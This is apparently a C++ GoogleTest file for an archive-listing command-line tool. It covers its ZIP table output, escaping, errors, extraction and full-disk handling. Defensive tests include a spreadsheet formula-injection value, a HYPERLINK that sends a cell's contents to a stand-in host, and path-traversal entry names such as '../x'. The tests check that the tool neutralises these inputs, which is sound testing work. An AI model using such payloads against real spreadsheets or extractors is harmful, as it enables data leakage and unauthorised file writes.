#include "CliRunner.h"
#include "tools/ZipBuilder.h"

#include <QFile>
#include <QTemporaryDir>

#include <gtest/gtest.h>

#include <iterator>

using ZipBuilder::TArchive;

namespace {

class ArchiveCliTest : public ::testing::Test
{
protected:
    void SetUp() override
    {
        ASSERT_TRUE(FRoot.isValid());
        Root = FRoot.path();
    }

    QString Write(const char *name, const QByteArray &bytes)
    {
        const QString path = Root + QLatin1Char('/') + QString::fromLatin1(name);
        EXPECT_TRUE(ZipBuilder::WriteBytes(path, bytes));
        return path;
    }

    QTemporaryDir FRoot;
    QString Root;
};

// 2012-09-27 14:30:58 as a DOS date-time.
constexpr uint32_t kSeptember27 = 0x413B73DD;

TEST_F(ArchiveCliTest, ListsTheEntryTableOfThePreview)
{
    TArchive a;
    a.Add("docs/readme.txt", QByteArray(3000, 'r'), 8).Comment = "first";
    ZipBuilder::TEntry &stored = a.Add("\x81"
                                       "ber.bin",
        "12345"); // CP437 0x81 is u-umlaut
    stored.DosDateTime = 0;
    a.Add("empty/", {});
    a.Comment = " - archived";
    const QString zip = Write("a.zip", a.Build());

    const QByteArray rows = "docs/readme.txt\t"
        + QByteArray::number(ZipBuilder::RawDeflate(QByteArray(3000, 'r')).size())
        + " bytes\t2.92 KB\t9/27/2012 2:30:58 PM\tDeflated\tfirst\n"
          "\xc3\xbc"
          "ber.bin\t5 bytes\t5 bytes\t(invalid)\tStored\t\n"
          "empty/\t0 bytes\t0 bytes\t9/27/2012 2:30:58 PM\tStored\t\n";
    const QByteArray header =
        "File path\tCompressed size\tUncompressed size\tLast modified\tMethod\tFile comment\n";

    const TCliRun run = RunCli({QStringLiteral("--zip"), zip});
    ASSERT_EQ(run.Status, 0) << run.Err.constData();
    EXPECT_EQ(run.Out, "Files: 3 - archived\n" + header + rows);
    const TCliRun bare = RunCli({QStringLiteral("--no-headers"), QStringLiteral("--zip"), zip});
    EXPECT_EQ(bare.Out, "Files: 3 - archived\n" + rows);
}

TEST_F(ArchiveCliTest, EachEntryStaysOneRowWhateverItsNameHolds)
{
    TArchive a;
    a.Add("tab\there\\back", "x").Comment = "two\nlines\r";
    a.Add("plain", "y");
    a.Comment = "\tsaid:\nhello";
    const TCliRun run =
        RunCli({QStringLiteral("--no-headers"), QStringLiteral("--zip"), Write("a.zip", a.Build())});
    ASSERT_EQ(run.Status, 0) << run.Err.constData();
    const QList<QByteArray> lines = run.Out.split('\n');
    ASSERT_EQ(lines.size(), 4); // three rows and the empty piece after the last line end
    EXPECT_EQ(lines[0], "Files: 2\\tsaid:\\nhello");
    EXPECT_TRUE(lines[1].startsWith("tab\\there\\\\back\t")) << lines[1].constData();
    EXPECT_TRUE(lines[1].endsWith("\tStored\ttwo\\nlines\\r")) << lines[1].constData();
    EXPECT_TRUE(lines[2].startsWith("plain\t"));
}

// The rows are pasted into spreadsheets, so a name or comment that would be
// taken for a formula gets the exports' apostrophe; the escapes come after it.
TEST_F(ArchiveCliTest, NamesAndCommentsThatLookLikeFormulasStayText)
{
    const struct
    {
        const char *name, *comment;
        QByteArray shownName, shownComment;
    } rows[] = {
        {"=HYPERLINK(\"http://x.example/\"&A1,\"click\")",
            "=1+1",
            "'=HYPERLINK(\"http://x.example/\"&A1,\"click\")",
            "'=1+1"},
        {"+1.txt", "@SUM(1)", "'+1.txt", "'@SUM(1)"},
        {"-2.txt", "\tnote", "'-2.txt", "'\\tnote"},
        {"\t3.txt", "\rnote", "'\\t3.txt", "'\\rnote"},
        {"a=b+c.txt", "1-1", "a=b+c.txt", "1-1"},
    };
    TArchive a;
    for (const auto &row : rows)
        a.Add(row.name, "x").Comment = row.comment;
    const TCliRun run =
        RunCli({QStringLiteral("--no-headers"), QStringLiteral("--zip"), Write("a.zip", a.Build())});
    ASSERT_EQ(run.Status, 0) << run.Err.constData();
    const QList<QByteArray> lines = run.Out.split('\n');
    ASSERT_EQ(lines.size(), qsizetype(std::size(rows)) + 2);
    for (size_t i = 0; i < std::size(rows); ++i) {
        const QList<QByteArray> cells = lines[qsizetype(i) + 1].split('\t');
        ASSERT_EQ(cells.size(), 6) << lines[qsizetype(i) + 1].constData();
        EXPECT_EQ(cells.front(), rows[i].shownName);
        EXPECT_EQ(cells.back(), rows[i].shownComment);
    }
}

TEST_F(ArchiveCliTest, ArchiveFailuresGiveTheReadersMessageAndStatus1)
{
    TArchive lying;
    lying.Add("a.txt", "abc");
    lying.EntryCount = 3;
    const struct
    {
        const char *Name;
        QByteArray Bytes;
        const char *Message;
    } cases[] = {
        {"damaged.zip", lying.Build(), "damaged.zip: Invalid Zip Central Header signature."},
        {"text.zip", "just some text, no archive", "text.zip: (invalid ZIP file)\n"},
    };
    for (const auto &c : cases) {
        SCOPED_TRACE(c.Name);
        const QString zip = Write(c.Name, c.Bytes);
        for (const QStringList &extra : {QStringList{},
                 QStringList{QStringLiteral("--extract"),
                     QStringLiteral("0"),
                     QStringLiteral("--to"),
                     Root + QStringLiteral("/out")}}) {
            const TCliRun run = RunCli(QStringList{QStringLiteral("--zip"), zip} + extra);
            EXPECT_EQ(run.Status, 1);
            EXPECT_TRUE(run.Err.contains(c.Message)) << run.Err.constData();
            EXPECT_TRUE(run.Out.isEmpty());
        }
    }
    EXPECT_FALSE(QFileInfo::exists(Root + QStringLiteral("/out")));
    const TCliRun missing = RunCli({QStringLiteral("--zip"), Root + QStringLiteral("/none.zip")});
    EXPECT_EQ(missing.Status, 2);
    EXPECT_TRUE(missing.Err.contains("none.zip: The specified file was not found."));
}

TEST_F(ArchiveCliTest, ExtractsADeflatedEntryUnderItsStoredPath)
{
    QByteArray data;
    for (int i = 0; i < 20000; ++i)
        data += QByteArray::number(i * 7919 % 1000) + ' ';
    TArchive a;
    a.Add("first.txt", "one");
    a.Add("deep/er/data.txt", data, 8);
    const QString zip = Write("a.zip", a.Build());
    const QString to = Root + QStringLiteral("/new/target");

    const TCliRun run = RunCli({QStringLiteral("--zip"),
        zip,
        QStringLiteral("--extract"),
        QStringLiteral("1"),
        QStringLiteral("--to"),
        to});
    ASSERT_EQ(run.Status, 0) << run.Err.constData();
    EXPECT_EQ(run.Out, (to + QStringLiteral("/deep/er/data.txt\n")).toUtf8());
    EXPECT_EQ(ReadAll(to + QStringLiteral("/deep/er/data.txt")), data);
    EXPECT_FALSE(QFileInfo::exists(to + QStringLiteral("/first.txt")));

    const TCliRun beyond = RunCli({QStringLiteral("--zip"),
        zip,
        QStringLiteral("--extract"),
        QStringLiteral("2"),
        QStringLiteral("--to"),
        to});
    EXPECT_EQ(beyond.Status, 1);
    for (const char *index : {"-1", "one", "1x"}) {
        const TCliRun bad = RunCli({QStringLiteral("--zip"),
            zip,
            QStringLiteral("--extract"),
            QString::fromLatin1(index),
            QStringLiteral("--to"),
            to});
        EXPECT_EQ(bad.Status, 2) << index;
        EXPECT_TRUE(bad.Err.contains("is not a valid entry index")) << index;
    }
    const TCliRun noTarget =
        RunCli({QStringLiteral("--zip"), zip, QStringLiteral("--extract"), QStringLiteral("1")});
    EXPECT_EQ(noTarget.Status, 2);
}

TEST_F(ArchiveCliTest, HostileNamesWriteNothingOutsideTheTarget)
{
    const QString to = Root + QStringLiteral("/inside/target");
    ASSERT_TRUE(QDir().mkpath(to));
    // An absolute name that points into this test's own folder, outside the target.
    const QByteArray absolute = QFile::encodeName(Root + QStringLiteral("/absolute-x"));
    for (const QByteArray &name : {QByteArray("../x"), QByteArray("a/../../x"), absolute}) {
        SCOPED_TRACE(name.toStdString());
        TArchive a;
        a.Add(name, "evil", 8);
        const QString zip = Write("evil.zip", a.Build());
        const TCliRun run = RunCli({QStringLiteral("--zip"),
            zip,
            QStringLiteral("--extract"),
            QStringLiteral("0"),
            QStringLiteral("--to"),
            to});
        EXPECT_EQ(run.Status, 1);
        EXPECT_TRUE(run.Err.contains("Invalid characters in path")) << run.Err.constData();
        EXPECT_TRUE(run.Out.isEmpty());
        EXPECT_FALSE(QFileInfo::exists(Root + QStringLiteral("/inside/x")));
        EXPECT_FALSE(QFileInfo::exists(Root + QStringLiteral("/x")));
        EXPECT_FALSE(QFileInfo::exists(Root + QStringLiteral("/absolute-x")));
        EXPECT_TRUE(QDir(to).isEmpty());
    }
}

TEST_F(ArchiveCliTest, AFullDiskIsReportedNeverSuccess)
{
    // Written a block at a time, an archive listing meets a full disk in its
    // first block; a folder listing when it writes.
    TArchive a;
    for (int i = 0; i < 3000; ++i)
        a.Add(QByteArray("entry-") + QByteArray::number(i) + ".txt", "x");
    const QString zip = Write("a.zip", a.Build());
    for (const QStringList &arguments : {QStringList{QStringLiteral("--zip"), zip},
             QStringList{QStringLiteral("--format"), QStringLiteral("tsv"), Root},
             QStringList{QStringLiteral("-r"), QStringLiteral("--format"), QStringLiteral("tsv"), Root},
             QStringList{QStringLiteral("--format"), QStringLiteral("jsonl"), Root}}) {
        SCOPED_TRACE(arguments.join(QLatin1Char(' ')).toStdString());
        const TCliRun run = RunCli(arguments, QString(), QProcessEnvironment(), QStringLiteral("/dev/full"));
        EXPECT_EQ(run.Status, 1);
        EXPECT_TRUE(run.Err.startsWith("cartola-list: ")) << run.Err.constData();
    }
}

} // namespace
